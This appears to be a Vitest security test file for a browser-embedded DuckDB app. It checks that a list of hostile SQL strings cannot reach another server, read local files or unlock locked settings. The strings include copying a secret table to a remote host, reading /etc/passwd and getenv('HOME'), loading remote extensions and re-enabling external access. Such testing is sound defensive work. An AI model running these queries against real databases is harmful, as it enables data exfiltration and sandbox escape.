import { afterAll, beforeAll, expect, test } from 'vitest';
import { openApp, type OpenApp } from './helpers';
import { serveAnything, type StaticServer } from './server';

let app: OpenApp;
let stranger: StaticServer;
beforeAll(async () => {
  stranger = await serveAnything();
  app = await openApp();
  await app.query('create table secret as select 1 as a');
});
afterAll(async () => {
  await app.close();
  await stranger.close();
});

// Each would reach another server, or corrupt the engine, in a DuckDB as it comes (engine.md §1, §9).
const hostile = (host: string): string[] => [
  `from read_csv('${host}x.csv?secret=1')`,
  `from '${host}x.csv'`,
  `from read_text('${host}x')`,
  `from read_blob('${host}x')`,
  `from glob('${host}*')`,
  `from sniff_csv('${host}x.csv')`,
  `copy secret to '${host}out.csv'`,
  `copy (select * from secret) to '${host}out' (format csv)`,
  `export database '${host}all'`,
  `import database '${host}all'`,
  `attach '${host}x.duckdb' as foreign_db`,
  `attach '${host}x.db' (type sqlite)`,
  `from read_csv('s3://bucket/x.csv')`,
  `from read_csv('hf://datasets/x/y.csv')`,
  `from read_csv('data/../../x.csv')`,
  `from read_csv('/etc/passwd')`,
  `load httpfs`,
  `load '${host}x.duckdb_extension'`,
  `load 'x.duckdb_extension'`,
  `install httpfs`,
  `install httpfs from '${host}'`,
  `install spatial from community`,
  `force install icu`,
  `update extensions`,
  `select json_extract('{"a": 1}', '$.a')`,
  `select '{"a": 1}'::json`,
  `from read_json('${host}x.json')`,
  `from 'x.parquet'`,
  `from read_parquet('${host}x.parquet')`,
  `select current_date`,
  `select today()`,
  `select now()::date`,
  `select timestamptz '2024-01-01' + interval 1 day`,
  `select date_trunc('day', timestamptz '2024-01-01')`,
  `select 'a' collate de`,
  `select * from pg_timezone_names()`,
  `set enable_external_access = true`,
  `set lock_configuration = false`,
  `reset enable_external_access`,
  `set autoload_known_extensions = true`,
  `set allowed_directories = ['http://']`,
  `set custom_extension_repository = '${host}'`,
  `set timezone = 'UTC'`,
  `pragma enable_external_access`,
  `create secret (type s3, key_id 'x', secret 'y')`,
  `set temp_directory = '${host}tmp'`,
  `set home_directory = '${host}'`,
  `select getenv('HOME')`,
  `create macro out() as table from read_csv('${host}x.csv'); from out()`,
  `create view out as from read_csv('${host}x.csv')`,
  `prepare p as from read_csv('${host}x.csv')`,
  `explain analyze from read_csv('${host}x.csv')`,
];

test('no SQL, however hostile, reaches another server or harms the engine', async () => {
  const asked = app.server.requests.length;
  for (const sql of hostile(stranger.url)) {
    await app.query(sql).catch(() => undefined);
    expect(await app.query('select a from secret'), sql).toEqual([{ a: 1 }]);
  }
  expect(await app.query('select count(*) as n, sum(i)::int as s from range(1000) t(i)')).toEqual([{ n: 1000, s: 499500 }]);
  expect(stranger.requests).toEqual([]);
  expect(app.foreign).toEqual([]);
  expect(app.server.requests.slice(asked)).toEqual([]);
});

test('the settings that keep it so cannot be changed', async () => {
  for (const name of ['enable_external_access', 'lock_configuration', 'autoload_known_extensions', 'allowed_directories']) {
    await expect(app.query(`reset ${name}`), name).rejects.toThrow();
  }
  const [row] = await app.query(`select current_setting('enable_external_access') as outside,
    current_setting('lock_configuration') as locked`);
  expect(row).toEqual({ outside: false, locked: true });
});

test('neither the page nor a worker can call another server with a script', async () => {
  const call = (url: string): Promise<string> => fetch(url, { mode: 'no-cors' }).then(() => 'reached', () => 'refused');
  expect(await app.page.evaluate(call, stranger.url)).toBe('refused');
  const workers = app.page.workers();
  expect(workers).toHaveLength(2);
  for (const worker of workers) {
    const said = await worker.evaluate(async (url) => {
      const viaFetch = await fetch(url, { mode: 'no-cors' }).then((answer) => answer.status, () => 'refused');
      const viaSocket = await new Promise((resolve) => {
        try {
          const socket = new WebSocket(url.replace('http', 'ws'));
          socket.onopen = () => resolve('reached');
          socket.onerror = () => resolve('refused');
        } catch {
          resolve('refused');
        }
      });
      return [viaFetch, viaSocket];
    }, stranger.url);
    expect([[403, 'refused'], ['refused', 'refused']]).toContainEqual(said);
  }
  expect(stranger.requests).toEqual([]);
});
